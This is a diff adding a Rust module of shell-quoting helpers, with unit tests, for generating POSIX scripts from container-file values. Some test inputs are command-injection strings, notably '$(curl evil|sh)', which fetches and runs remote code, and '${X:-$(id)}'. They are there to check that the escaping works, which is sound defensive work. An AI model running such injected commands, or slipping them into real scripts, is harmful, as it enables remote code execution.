@@ -0,0 +1,93 @@
+// This Source Code Form is subject to the terms of the Mozilla Public License, v. 2.0.
+// If a copy of the MPL was not distributed with this file,
+// You can obtain one at <https://mozilla.org/MPL/2.0/>.
+
+//! Helpers for generating POSIX shell scripts.
+
+use crate::container::is_shell_name;
+
+/// Quote a string as a single shell word, preventing any expansion.
+///
+/// Strings made only of characters that are never special to the shell are returned as is.
+pub(crate) fn quote(s: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "%+,-./:=@_".contains(c);
+    if !s.is_empty() && s.chars().all(is_plain) {
+        s.to_string()
+    } else {
+        format!("'{}'", s.replace('\'', r"'\''"))
+    }
+}
+
+/// Quote a string in double quotes, allowing parameter expansion but nothing else.
+///
+/// This matches the semantics of `ENV` values in Containerfiles, where `$VAR` and `${VAR}`
+/// refer to a previously defined variable. Every other `$`, such as the start of a command
+/// substitution `$(...)` or an arithmetic expansion `$((...))`, is escaped.
+pub(crate) fn quote_expanding(s: &str) -> String {
+    let mut quoted = String::with_capacity(s.len() + 2);
+    quoted.push('"');
+    for (index, c) in s.char_indices() {
+        let escape = match c {
+            '"' | '\\' | '`' => true,
+            '$' => !is_parameter(&s[index + 1..]),
+            _ => false,
+        };
+        if escape {
+            quoted.push('\\');
+        }
+        quoted.push(c);
+    }
+    quoted.push('"');
+    quoted
+}
+
+/// Whether the text after a `$` starts a plain parameter reference, `NAME` or `{NAME}`.
+fn is_parameter(rest: &str) -> bool {
+    if let Some(braced) = rest.strip_prefix('{') {
+        braced
+            .split_once('}')
+            .is_some_and(|(name, _)| is_shell_name(name))
+    } else {
+        rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_quote_plain_words() {
+        assert_eq!(quote("salmon"), "salmon");
+        assert_eq!(quote("/opt/data/reads_1.fq.gz"), "/opt/data/reads_1.fq.gz");
+        assert_eq!(quote("--threads=8"), "--threads=8");
+    }
+
+    #[test]
+    fn test_quote_special_characters() {
+        assert_eq!(quote(""), "''");
+        assert_eq!(quote("my file"), "'my file'");
+        assert_eq!(quote("$HOME"), "'$HOME'");
+        assert_eq!(quote("it's"), r"'it'\''s'");
+    }
+
+    #[test]
+    fn test_quote_expanding() {
+        assert_eq!(quote_expanding("$HOME/bin"), r#""$HOME/bin""#);
+        assert_eq!(
+            quote_expanding(r#"say "hi" \ `now`"#),
+            r#""say \"hi\" \\ \`now\`""#
+        );
+        assert_eq!(quote_expanding("${HOME}/bin"), r#""${HOME}/bin""#);
+    }
+
+    #[test]
+    fn test_quote_expanding_escapes_other_expansions() {
+        assert_eq!(quote_expanding("$(curl evil|sh)"), r#""\$(curl evil|sh)""#);
+        assert_eq!(quote_expanding("$((1 + 2))"), r#""\$((1 + 2))""#);
+        assert_eq!(quote_expanding("${X:-$(id)}"), r#""\${X:-\$(id)}""#);
+        assert_eq!(quote_expanding("$1 $$ $"), r#""\$1 \$\$ \$""#);
+    }
+}
+
+// EOF